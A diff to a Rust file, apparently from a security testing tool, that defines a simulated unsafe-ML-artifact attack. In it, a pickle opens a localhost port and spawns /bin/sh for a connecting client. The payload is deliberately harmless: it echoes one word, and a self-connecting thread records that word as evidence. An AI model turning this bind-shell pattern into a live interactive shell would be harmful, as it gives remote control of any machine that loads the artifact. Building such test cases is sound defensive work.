@@ -7,8 +7,8 @@ pub const ATTACK: Attack = Attack {
     id: "listening-shell",
     title: "a shell that waits at a port",
     summary: "The pickle opens a port on this machine and starts a shell for whoever \
-              connects. Here it waits for two seconds, and the shell says one line and reads \
-              nothing.",
+              connects. Here a thread of its own connects and keeps the answer in a file; the \
+              shell says one line and reads nothing, and after two seconds the port is closed.",
     severity: Severity::Critical,
     targets: Targets::Python(&[Loader::Pickle, Loader::Joblib]),
     techniques: &[techniques::UNIX_SHELL, techniques::PYTHON, techniques::UNSAFE_ML_ARTIFACTS],
@@ -25,7 +25,10 @@ pub const ATTACK: Attack = Attack {
     ],
     build,
     expected: Expected::Effect {
-        aquarium: &[Sign::Happened(EventKind::Bind, "127.0.0.1:47011")],
+        aquarium: &[
+            Sign::Created("answer.txt"),
+            Sign::Happened(EventKind::Bind, "127.0.0.1:47011"),
+        ],
         policy: &[Evidence { kind: EventKind::Bind, text: "127.0.0.1:47011" }],
     },
     quick: false,
@@ -34,16 +37,25 @@ pub const ATTACK: Attack = Attack {
 /// The port on which it waits.
 const PORT: u16 = 47_011;
 
-fn build(_scene: &Scene, target: Target) -> Result<Vec<u8>, BuildError> {
+fn build(scene: &Scene, target: Target) -> Result<Vec<u8>, BuildError> {
+    let answer = payload::quoted(&scene.path("answer.txt"));
     // A true one would give the client as standard input too; this one must be harmless for everybody.
     let source = format!(
         r"
-import socket, subprocess
+import socket, subprocess, threading
+def visit():
+    with socket.create_connection(('127.0.0.1', {PORT}), timeout=2) as visitor:
+        said = visitor.recv(64)
+    if b'fallen' in said:
+        with open({answer}, 'wb') as file:
+            file.write(said)
 listener = socket.socket()
 listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
 listener.bind(('127.0.0.1', {PORT}))
 listener.listen(1)
 listener.settimeout(2)
+visitor = threading.Thread(target=visit)
+visitor.start()
 try:
     client, address = listener.accept()
     shell = ['/bin/sh', '-c', 'echo fallen']
@@ -52,6 +64,7 @@ try:
 except socket.timeout:
     pass
 listener.close()
+visitor.join()
 "
     );
     payload::program(ATTACK.id, target, &source)
